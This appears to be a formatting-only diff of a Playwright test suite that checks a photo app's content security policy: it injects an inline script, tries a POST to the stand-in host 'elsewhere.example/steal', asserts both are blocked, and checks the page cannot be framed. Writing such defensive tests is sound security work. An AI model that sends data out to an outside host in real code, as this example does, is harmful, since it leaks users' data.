@@ -24,7 +24,8 @@ async function watchViolations(page: Page): Promise<() => Promise<Violation[]>> 
       seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI }),
     );
   });
-  return () => page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations ?? []);
+  return () =>
+    page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations ?? []);
 }
 
 describe('the content security policy in Chromium', () => {
@@ -37,7 +38,9 @@ describe('the content security policy in Chromium', () => {
     expect(await violations()).toEqual([]);
 
     await signInAsAdmin(page);
-    const [album] = await sql<{ id: string }>("insert into public.albums (name) values ('CSP check') returning id");
+    const [album] = await sql<{ id: string }>(
+      "insert into public.albums (name) values ('CSP check') returning id",
+    );
     await page.goto(`/admin/albums/${album!.id}`);
     await page.getByRole('button', { name: 'Add Photos' }).first().click();
     const dialog = page.getByRole('dialog', { name: 'Add Photos' });
@@ -62,7 +65,10 @@ describe('the content security policy in Chromium', () => {
       const script = document.createElement('script');
       script.textContent = 'window.__injected = true';
       document.body.append(script);
-      const reached = await fetch('https://elsewhere.example/steal', { method: 'POST', body: 'x' }).then(
+      const reached = await fetch('https://elsewhere.example/steal', {
+        method: 'POST',
+        body: 'x',
+      }).then(
         () => true,
         () => false,
       );
@@ -72,20 +78,31 @@ describe('the content security policy in Chromium', () => {
         () => true,
         () => false,
       );
-      return { injected: (window as unknown as { __injected?: boolean }).__injected === true, reached, loaded };
+      return {
+        injected: (window as unknown as { __injected?: boolean }).__injected === true,
+        reached,
+        loaded,
+      };
     });
     expect(outcome).toEqual({ injected: false, reached: false, loaded: true });
-    expect((await violations()).map((violation) => violation.directive).sort()).toEqual(['connect-src', 'script-src-elem']);
+    expect((await violations()).map((violation) => violation.directive).sort()).toEqual([
+      'connect-src',
+      'script-src-elem',
+    ]);
     await context.close();
   });
 
   it('cannot be framed by another page', async () => {
     const context = await newContext('desktop');
     const page = await context.newPage();
-    await page.setContent(`<iframe src="${inject('stack').url}/" style="width:400px;height:300px"></iframe>`);
+    await page.setContent(
+      `<iframe src="${inject('stack').url}/" style="width:400px;height:300px"></iframe>`,
+    );
     const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
     await page.waitForTimeout(1_000);
-    const rendered = await frame?.evaluate(() => document.getElementById('root') !== null).catch(() => false);
+    const rendered = await frame
+      ?.evaluate(() => document.getElementById('root') !== null)
+      .catch(() => false);
     expect(rendered ?? false).toBe(false);
     await context.close();
   });
